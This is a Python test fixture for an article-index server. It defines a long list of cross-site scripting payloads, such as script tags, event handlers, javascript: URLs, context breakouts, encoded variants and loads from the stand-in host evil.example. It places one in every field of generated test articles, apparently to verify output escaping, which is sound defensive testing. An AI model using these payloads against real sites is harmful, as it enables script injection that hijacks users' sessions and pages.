"""Texts that try to run a script where they are printed, and articles that hold them in every field."""

from __future__ import annotations

from typing import Final

from index.article.model import (
    NOTHING_COPIED,
    Article,
    Author,
    Block,
    BlockKind,
    CopyFacts,
    Outlet,
    Published,
    Quality,
    RegionFact,
    Role,
    Source,
    Version,
    article_id,
)
from tests.server.articles import ADDED

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.hacked=1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script async>alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--></script><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=\"x\" onerror=\"window['hacked']=1\">",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>go</text></a></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<form action=javascript:alert(1)><input type=submit autofocus>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    '<a href="jav&#x09;ascript:alert(1)">go</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    '" style="animation:x" onanimationstart="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}{% print(1) %}<script>alert(1)</script>",
    "${alert(1)}`${alert(1)}`",
    "<mark>fake</mark><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u2066",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
"""Elements, attributes, breaking out of each context that a page has, encodings, templates, addresses."""

WORD: Final = "sabotage"
"""A word of every article."""


def hostile_article(number: int) -> Article:
    """Return an article with a payload in every text, another one in each; `number` turns the wheel.

    The last one is a copy of the first.
    """
    is_copy = number == len(PAYLOADS) - 1

    def payload(place: int) -> str:
        return PAYLOADS[(number + place) % len(PAYLOADS)]

    title = f"{payload(0)} {WORD}"
    roles = [role for role in Role if role not in (Role.TITLE, Role.BODY)]
    return Article(
        id=_id(number),
        source=_source(payload(1)),
        title=title,
        dek=payload(2),
        url=payload(3),
        site=payload(4),
        outlet=Outlet(name=payload(5), source="given"),
        language="en",
        kind=payload(6),
        section=payload(7),
        tags=(payload(8), payload(9)),
        sets=(payload(10),),
        authors=tuple(Author(name=payload(at), printed=(payload(at + 1),), source="byline") for at in (11, 13)),
        regions=(RegionFact(key="africa", label=payload(15), source="text"),),
        published=Published.at(f"{1990 + number % 30}-03", "json-ld"),
        blocks=(
            Block(text=title, kind=BlockKind.HEADING, role=Role.TITLE, reason=payload(16)),
            *(
                Block(text=f"{payload(17 + at)} {WORD}", kind=kind, role=Role.BODY, reason=payload(18 + at))
                for at, kind in enumerate(BlockKind)
            ),
            *(
                Block(text=f"{payload(30 + at)} {WORD}", role=role, reason=payload(31 + at))
                for at, role in enumerate(roles)
            ),
        ),
        versions=(
            Version(source=_source(payload(50)), title=payload(51), quality=Quality.FULL, paragraphs=(payload(52),)),
        ),
        lead=not is_copy,
        lead_id=_id(0) if is_copy else None,
        copies=0 if is_copy else 1,
        copy_ids=(_id(len(PAYLOADS) - 1),) if number == 0 else (),
        copied=NOTHING_COPIED if is_copy else _copied(payload(53), payload(54), payload(55)),
        added=ADDED,
        updated=ADDED,
    )


def _id(number: int) -> str:
    return article_id(f"hostile-{number}")


def _copied(site: str, author: str, outlet: str) -> CopyFacts:
    return CopyFacts(sites=(site,), authors=(author,), outlets=(outlet,), sets=(site,))


def _source(path: str) -> Source:
    return Source(pile="tests", path=f"{path}.html", media_type="text/html", sha256="0" * 64)


ARTICLES: Final = tuple(hostile_article(number) for number in range(len(PAYLOADS)))
